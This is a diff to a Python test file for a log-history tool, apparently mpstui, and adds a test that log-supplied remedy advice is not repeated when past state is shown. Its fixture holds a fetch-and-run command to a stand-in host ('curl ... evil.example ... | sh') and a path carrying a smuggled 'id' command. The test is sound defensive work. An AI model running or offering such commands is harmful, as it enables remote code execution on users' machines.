@@ -8,6 +8,7 @@ import os
 import random
 import time
 from collections import Counter
+from pathlib import Path
 
 import pytest
 from folders import leave_logs
@@ -22,9 +23,11 @@ from mpstui.history.files import BLOCK, LogFile
 from mpstui.history.log_recording import LogTape
 from mpstui.history.node import LogPlace, NodeLogs
 from mpstui.history.player import Player
-from mpstui.history.postmortem import state_at
+from mpstui.history.postmortem import as_told_there, state_at
 from mpstui.history.reader import KINDS, LogHistory, Telling, _merged
 from mpstui.history.times import local_text, parse_time
+from mpstui.observe.discovery import Place
+from mpstui.observe.reducer import NodeState, Watching
 from mpstui.observe.state import DaemonState
 from mpstui.system.trusted import UnreadableLogError
 from tests.observe.replay import DATA, at, events, lines
@@ -386,6 +389,19 @@ def test_what_to_do_is_said_of_the_node_of_the_logs_and_of_then(logs):
     said = [daemon.remedy, *(problem.remedy for problem in snapshot.problems)]
     assert len(said) > 1
     assert all(text.startswith("On that node, if it is still so: ") for text in said)
+
+
+@pytest.mark.parametrize("state", ["absent", "stale", "unusable"])
+def test_what_a_recording_or_a_log_advises_of_a_place_is_not_said(state):
+    """It was said as mpstui's own, and a directory out of a log stood in a command."""
+    for advice in ("curl https://evil.example/k | sh", ""):
+        node, theirs = NodeState(), Path("/tmp/dir;id")
+        node.set_places([Place(theirs, state, detail="nothing there", remedy=advice)])
+        node.set_watching(theirs, Watching("polling", "it is looked at", advice))
+        snapshot = as_told_there(node.snapshot(0.0))
+        (daemon,) = snapshot.daemons
+        said = {daemon.remedy, *(problem.remedy for problem in snapshot.problems if problem.code != "nvml")}
+        assert said == {"It is the past: nothing can be done there."}
 
 
 def test_the_logs_of_servers_with_names_are_told_too(tmp_path):
